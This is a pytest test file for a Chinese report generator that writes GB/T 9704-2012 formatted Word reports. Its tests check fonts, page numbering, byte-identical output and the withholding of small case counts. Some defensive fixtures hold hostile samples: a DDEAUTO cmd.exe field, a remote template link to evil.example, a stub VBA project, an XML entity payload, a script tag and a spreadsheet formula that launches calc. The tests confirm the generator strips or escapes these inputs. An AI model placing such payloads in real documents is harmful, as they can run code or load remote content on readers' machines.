"""The paper is laid out as GB/T 9704-2012 asks, is the same for the same run, keeps its traces, and takes nothing but looks from a template."""

import io
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace

import docx
import pytest

from engine.report.document.asked import Asked, Audience, Kind
from engine.report.document.paper import Paper, Sentence
from engine.report.document.report import report
from engine.report.document.styles import BadTemplate, Sheet
from tests.helpers import dabiao
from tests.report.document.conftest import Read, W, sources_of, text_of

OFFICE = shutil.which("soffice")
needs_office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")


def converted(content, form, folder):
    """What LibreOffice makes of a document."""
    (folder / "in.docx").write_bytes(content)
    command = [
        OFFICE,
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        "--convert-to",
        form,
        "--outdir",
        folder / "out",
    ]
    subprocess.run([*map(str, command), str(folder / "in.docx")], check=True, capture_output=True, timeout=180)
    return (folder / "out" / f"in.{form}").read_bytes()


def styled(paper, name):
    """The font, size and line of a style."""
    style = next(s for s in paper.part("word/styles.xml").iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == name)
    font, size, line = (style.find(f"{W}{path}") for path in (f"rPr/{W}rFonts", f"rPr/{W}sz", f"pPr/{W}spacing"))
    return font.get(f"{W}eastAsia"), int(size.get(f"{W}val")) / 2, int(line.get(f"{W}line")) / 20


def test_page_fonts_and_lines_are_those_of_the_standard(internal):
    section = docx.Document(io.BytesIO(internal.content)).sections[0]
    millimetres = [round(getattr(section, f"{side}_margin").mm, 1) for side in ("top", "bottom", "left", "right")]
    assert (round(section.page_width.mm), round(section.page_height.mm), millimetres) == (210, 297, [37, 35, 28, 26])
    assert styled(internal, "Title")[:2] == ("方正小标宋简体", 22)
    assert styled(internal, "Body Text") == ("仿宋_GB2312", 16, 28)
    assert styled(internal, "heading 1") == ("黑体", 16, 28) and styled(internal, "heading 2") == ("楷体_GB2312", 16, 28)


def test_headings_are_real_and_numbered(internal):
    chapters = internal.headings(1)
    assert (
        chapters[0] == "一、经济社会背景"
        and chapters[2] == "三、高平市妇女发展“十四五”规划"
        and chapters[8] == "九、策略措施开展情况"
    )
    assert internal.headings(2)[:2] == ["（一）妇女与健康", "（二）妇女与教育"]


def test_pages_are_numbered_at_the_outer_side(internal):
    settings = internal.part("word/settings.xml")
    assert settings.find(f"{W}evenAndOddHeaders") is not None
    sides = {}
    for name in internal.archive.namelist():
        if re.fullmatch(r"word/footer\d+\.xml", name):
            footer = internal.part(name)
            assert text_of(footer) == "— 1 —" and [f.get(f"{W}instr").strip() for f in footer.iter(f"{W}fldSimple")] == [
                "PAGE"
            ]
            sides[footer.find(f".//{W}jc").get(f"{W}val")] = name
    assert set(sides) == {"left", "right"}


def test_tables_and_figures_are_numbered_in_order_by_fields(internal):
    for word in ("表", "图"):
        captions = [p for p in internal.paragraphs if any(word in f.get(f"{W}instr") for f in p.iter(f"{W}fldSimple"))]
        numbers = [int(re.match(rf"{word}(\d+)　", text_of(caption))[1]) for caption in captions]
        assert numbers == list(range(1, len(numbers) + 1)) and numbers


def test_the_first_page_says_that_the_data_is_made_up(internal, public):
    for paper in (internal, public):
        first = paper.texts[: paper.texts.index("一、经济社会背景")]
        assert any("示例数据，纯属虚构" in text for text in first)


def test_background_cells_are_to_be_filled_in(internal):
    head, *rows = internal.table("经济社会基本情况")
    assert head == ["项目", "单位", "2020年", "2023年", "2024年"]
    assert all(row[2:] == ["待填"] * 3 for row in rows) and {"地区生产总值", "年末常住人口"} <= {row[0] for row in rows}


def test_the_public_paper_has_no_colour_and_no_figure_of_few_cases(public, public_traced, internal, sample):
    text = "\n".join(public.texts) + "".join(text_of(t) for t in public.body.iter(f"{W}tbl"))
    assert not re.search("[红橙黄蓝]色|预警等级", text)
    assert re.search("[红橙黄蓝]色", "\n".join(internal.texts))
    few = [finding for finding in sample.findings.values() if finding["withheld"]]
    assert {finding["target"] for finding in few} >= {"W1.2a", "C2.4a"}
    for finding in few:
        own = [
            text
            for p in public_traced.paragraphs
            if sources_of(p) == [finding["id"]]
            for text in [text_of(p)]
            if "目标要求" in text
        ]
        assert all("数值不公布" in text and finding["value_text"]["zh"] not in text for text in own)
        assert own or (finding["scope"] != "objective" and finding["verdict"] == "met")
    for series in public.charts:
        hidden = {f["subject"]["zh"]: f for f in few}.get(series[0][0])
        if hidden:
            assert not {str(p["year"]) for p in hidden["working"]["series"] if p["withheld"]} & set(series[0][1])


def test_one_to_four_cases_are_withheld_none_and_five_are_not(tmp_path):
    from tests import packs
    from tests.helpers import world

    counts = {"numerator": {"zh": "死亡", "en": "deaths"}, "denominator": packs.TEXT}
    catalogue = {"rate": packs.indicator("率", "per_mille", "lower", counts=counts)}
    from engine.report.gather import gathered

    rows = [
        {"indicator": "rate", "year": 2020 + n, "value": "", "numerator": cases, "denominator": 1000}
        for n, cases in enumerate((0, 1, 4, 5, 4))
    ]
    _, run, pack, facts = world(tmp_path, [{"kind": "direction", "change": "fall"}], rows, 2024, catalogue)
    (finding,) = gathered(run, pack, facts).findings
    assert [(point.year, point.withheld) for point in finding.working.series] == [
        (2020, False), (2021, True), (2022, True), (2023, False), (2024, True),
    ]  # fmt: skip
    assert finding.withheld


def test_the_same_run_is_the_same_paper_byte_for_byte(internal, sample):
    assert report(sample.dossier, Kind.ANNUAL, Asked("zh")) == internal.content
    assert {info.date_time for info in internal.archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    assert b"2000-01-01T00:00:00Z" in internal.archive.read("docProps/core.xml")


def test_another_process_writes_the_same_paper(internal, tmp_path):
    from tests.helpers import ROOT

    code, _, err = dabiao(
        "report",
        ROOT / "data_samples/gaoping",
        "--year",
        2024,
        "--kind",
        "年度",
        "-o",
        tmp_path / "报告.docx",
        TZ="Asia/Tokyo",
    )
    assert code == 0, err
    assert (tmp_path / "报告.docx").read_bytes() == internal.content


@needs_office
def test_the_paper_opens_and_traces_survive_being_saved_by_another_program(internal, tmp_path):
    again = Read(converted(internal.content, "docx", tmp_path))
    before = [(text_of(p), sources_of(p)) for p in internal.paragraphs if sources_of(p)]
    after = [(text_of(p), sources_of(p)) for p in again.paragraphs if sources_of(p)]
    assert [ids for _, ids in after] == [ids for _, ids in before]
    assert [text for text, _ in after] == [text for text, _ in before] and len(before) > 200


@needs_office
def test_the_paper_becomes_a_pdf(public, tmp_path):
    assert converted(public.content, "pdf", tmp_path).startswith(b"%PDF")


def test_a_trace_moves_with_its_sentence(internal, sample):
    document = docx.Document(io.BytesIO(internal.content))
    (place,) = [n for n, p in enumerate(document.paragraphs) if p.text.startswith("3. 孕产妇死亡率。")]
    sentence = document.paragraphs[place]
    document.paragraphs[0]._p.addprevious(sentence._p)
    sentence.runs[1].text = sentence.runs[1].text.replace("未达标", "还没有达标")
    buffer = io.BytesIO()
    document.save(buffer)
    first = Read(buffer.getvalue()).paragraphs[0]
    assert "还没有达标" in text_of(first) and sources_of(first) == ["W1.2a@140581@2024"]


def with_parts(content, **parts):
    """A document with further parts, or parts that are other than they were."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return buffer.getvalue()


def own_template():
    """A user's template: another font, another page, and everything that could do harm."""
    document = docx.Document()
    document.styles["Heading 1"].font.name = "Impact"
    document.sections[0].left_margin = docx.shared.Mm(20)
    document.sections[0].header.paragraphs[0].text = "DDEAUTO c:\\windows\\system32\\cmd.exe"
    document.add_paragraph("信笺正文{{ 7*7 }}")
    buffer = io.BytesIO()
    document.save(buffer)
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(buffer.getvalue(), **{"word/vbaProject.bin": b"VBA", "word/_rels/settings.xml.rels": rels})


def test_of_a_template_only_styles_and_page_are_taken(sample):
    small = replace(sample.dossier, findings=sample.dossier.findings[:3])
    paper = Read(report(small, Kind.ANNUAL, Asked("zh", Audience.INTERNAL, own_template())))
    everything = b"".join(paper.archive.read(name) for name in paper.archive.namelist())
    for harm in (
        b"evil.example",
        b"DDEAUTO",
        b"vbaProject",
        b"VBA",
        "信笺".encode(),
        b'TargetMode="External"',
        b"attachedTemplate",
    ):
        assert harm not in everything, harm
    heading = next(p for p in paper.paragraphs if text_of(p) == "一、经济社会背景").find(f"{W}pPr/{W}pStyle").get(f"{W}val")
    style = next(s for s in paper.part("word/styles.xml").iter(f"{W}style") if s.get(f"{W}styleId") == heading)
    assert style.find(f"{W}rPr/{W}rFonts").get(f"{W}ascii") == "Impact"
    assert round(docx.Document(io.BytesIO(paper.content)).sections[0].left_margin.mm) == 20
    assert len({s.get(f"{W}styleId") for s in paper.part("word/styles.xml").iter(f"{W}style")}) == len(
        list(paper.part("word/styles.xml").iter(f"{W}style"))
    )


BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'


@pytest.mark.parametrize(
    "template",
    [
        b"",
        b"no zip",
        with_parts(own_template(), **{"word/styles.xml": BOMB}),
        with_parts(own_template(), **{"word/document.xml": b"<x"}),
    ],
)
def test_what_is_no_template_is_refused(template):
    with pytest.raises(BadTemplate):
        Paper(["题"], "zh", template)


def test_a_call_with_a_bad_template_says_what_to_do(world, tmp_path):
    (tmp_path / "模板.docx").write_text("no")
    words = (world / "facts.csv", "--pack", world / "pack", "--year", 2024)
    code, _, err = dabiao("report", *words, "--template", tmp_path / "模板.docx", "-o", tmp_path / "r.docx")
    assert code == 2 and "模板.docx 不能用作模板" in err and not (tmp_path / "r.docx").exists()


@pytest.mark.parametrize(
    ("option", "said"),
    [
        (("--kind", "月度"), "--kind 不能是“月度”；可用：年度, 中期, 终期, 评估, 责任分解, 督办, 统计资料, 抽查, 调整"),
        (("--audience", "秘密"), "--audience 不能是“秘密”；可用：内部, 公开"),
        (("--by", "unit", "--deadline", "下周"), "“下周”不是日期"),
        (("-o", "r.doc"), "r.doc 应以 .docx 结尾"),
    ],
)
def test_what_is_not_understood_is_said(option, said, world, tmp_path):
    words = (world / "facts.csv", "--pack", world / "pack", "--year", 2024, "-o", tmp_path / "r.docx", *option)
    code, _, err = dabiao("report", *words)
    assert code == 2 and said in err


def test_names_of_others_stay_text():
    paper = Paper(["<b>题</b>"], "zh")
    paper.paragraph(Sentence("<script>alert(1)</script>\x00\x0b=1+1 & “”\ud800", ("<x>",)))
    paper.table("表<", ["<"], [["=cmd|' /C calc'!A0"]], [1])
    read = Read(paper.saved())
    assert read.texts[1] == "<script>alert(1)</script>=1+1 & “”" and sources_of(read.paragraphs[1]) == ["<x>"]
    assert read.table("表<")[1] == ["=cmd|' /C calc'!A0"]


def test_a_sheet_lies_across_with_its_margins_turned():
    across = Sheet().across
    assert (across.width, across.height, across.top, across.bottom, across.left, across.right) == (297, 210, 28, 26, 35, 37)


@pytest.mark.parametrize("kind", list(Kind))
def test_every_kind_in_both_languages(kind, sample):
    small = replace(sample.dossier, findings=sample.dossier.findings[:30])
    for lang, word in (("zh", "（2024年）" if kind != Kind.ANNUAL else "2024年统计监测报告"), ("en", "2024")):
        paper = Read(report(small, kind, Asked(lang)))
        assert word in paper.texts[1]
        assert ("评估过程" in "".join(paper.headings(1))) == (kind == Kind.EVALUATION and lang == "zh")


def test_a_title_with_blanks_is_kept():
    assert Read(Paper([" 题  目 "], "zh").saved()).texts[0] == " 题  目 "
